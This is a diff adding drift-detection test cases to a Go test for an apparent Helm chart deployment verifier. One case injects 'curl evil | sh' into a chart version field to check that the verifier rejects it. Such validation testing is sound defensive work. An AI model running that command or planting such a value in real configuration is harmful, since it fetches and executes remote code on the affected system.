@@ -252,6 +252,32 @@ func TestVerifyDifferences(t *testing.T) {
 		"an unpacked chart": {func(r *deployRepo, _ *VerifyOptions) {
 			r.files["hub/charts/jupyterhub/Chart.yaml"] = "name: jupyterhub\nversion: 1.0.0\n"
 		}, DriftPacked, "hub/charts/jupyterhub/Chart.yaml:2", []string{"the unpacked chart is jupyterhub 1.0.0"}},
+		"an older chart under another file name": {func(r *deployRepo, _ *VerifyOptions) {
+			root, _ := testtools.Root()
+			r.files["hub/charts/upstream.tgz"] = string(must[[]byte](r)(rig.Hub{Version: "1.0.0"}.Package(root)))
+		}, DriftPacked, "hub/charts/upstream.tgz", []string{"the packed chart is jupyterhub 1.0.0", "Helm would deploy the packed one"}},
+		"an older chart in another directory": {func(r *deployRepo, _ *VerifyOptions) {
+			r.files["hub/charts/upstream/Chart.yaml"] = "name: jupyterhub\nversion: 1.0.0\n"
+		}, DriftPacked, "hub/charts/upstream/Chart.yaml:2", []string{"the unpacked chart is jupyterhub 1.0.0"}},
+		"two lists of dependencies": {func(r *deployRepo, _ *VerifyOptions) {
+			r.files["hub/Chart.yaml"] += "dependencies:\n- {name: jupyterhub, version: 1.0.0, repository: x}\n"
+		}, DriftSite, "hub/requirements.yaml:2", []string{"hub/Chart.yaml:5 has some too", "keep one"}},
+		"an alias that the values do not have": {func(r *deployRepo, _ *VerifyOptions) {
+			r.edit("hub/requirements.yaml", "   version: 1.1.0", "   version: 1.1.0\n   alias: jh")
+		}, DriftSite, "hub/requirements.yaml:5", []string{`under "jh"`, `prefix in .chartctl.yaml is "jupyterhub"`, "the chart's own image runs"}},
+		"an alias that a site does not have": {func(r *deployRepo, _ *VerifyOptions) {
+			r.edit("hub/requirements.yaml", "   version: 1.1.0", "   version: 1.1.0\n   alias: jh")
+			r.files[".chartctl.yaml"] = strings.ReplaceAll(r.files[".chartctl.yaml"], "prefix: jupyterhub", "prefix: jh")
+		}, DriftSite, "hub/values.yaml", []string{"jupyterhub.hub.image is not read"}},
+		"two documents": {func(r *deployRepo, _ *VerifyOptions) {
+			r.files["hub/requirements.yaml"] = "dependencies: []\n---\n" + r.files["hub/requirements.yaml"]
+		}, DriftSite, "hub/requirements.yaml", []string{"2 YAML documents"}},
+		"a revision that does not run": {func(r *deployRepo, o *VerifyOptions) {
+			o.Deployed = deployedAs(r, HelmRelease{Name: "data8", Label: "jupyterhub-1.1.0", Revision: 7, Status: "superseded"})
+		}, DriftDeployed, "chartd.lock:4", []string{"revision 7 of release data8 is superseded"}},
+		"a version that is none": {func(r *deployRepo, _ *VerifyOptions) {
+			r.edit("hub/requirements.yaml", "version: 1.1.0", "version: 1.1.0; curl evil | sh")
+		}, DriftPair, "hub/requirements.yaml:4", []string{"Mend: to stay at 1.1.0: chartctl bump data8/staging --group --allow-dirty --binding " + newDeployRepo(t).entry.Binding.String() + " ("}},
 		"no entry": {func(r *deployRepo, _ *VerifyOptions) { r.lock("r/staging") },
 			DriftLock, "chartd.lock", []string{"no entry for data8/staging", "chartctl bump data8/staging --group --latest"}},
 		"a stranger's entry": {func(r *deployRepo, _ *VerifyOptions) { r.lock("data8/staging", "r/staging", "x/staging") },
